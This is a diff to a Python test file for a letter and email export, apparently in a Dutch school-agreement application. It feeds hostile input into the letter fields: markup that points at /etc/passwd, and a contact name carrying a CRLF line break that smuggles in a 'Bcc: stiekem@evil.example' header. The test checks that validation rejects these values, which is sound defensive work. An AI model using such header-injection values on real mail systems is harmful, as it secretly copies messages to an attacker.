@@ -7,7 +7,7 @@ from email import policy
 from pathlib import Path
 
 import pytest
-from sqlalchemy import select
+from sqlalchemy import select, update
 
 from exports.letter import write_confirmation
 from models.domain.errors import Conflict, InvalidInput
@@ -110,9 +110,13 @@ def test_not_before_confirmation(demo_db) -> None:
 def test_hostile_text_in_letter_and_headers(demo_db, tmp_path: Path) -> None:
     hostile = "<font size=40>Groot</font> & <img src='/etc/passwd'/> &amp;"
     number = _confirm_new(demo_db, description=hostile, school="<b>School</b>", pupil="")
-    with demo_db.write() as session:
-        agreement = session.scalar(select(Agreement).where(Agreement.number == number))
-        agreement.board_contact = "A. Jansen\r\nBcc: stiekem@evil.example"
+    injected = "A. Jansen\r\nBcc: stiekem@evil.example"
+    with pytest.raises(InvalidInput, match="regelovergang"):  # the app stores no line break in a name
+        with demo_db.write() as session:
+            agreement = session.scalar(select(Agreement).where(Agreement.number == number))
+            agreement.board_contact = injected
+    with demo_db.write() as session:  # one that came in from outside (the file edited by another program)
+        session.execute(update(Agreement).where(Agreement.number == number).values(board_contact=injected))
     pdf_path, eml_path = write_confirmation(_letter(demo_db, number), tmp_path)
     text = pdf_text(pdf_path)
     assert f"Omschrijving {hostile}" in text
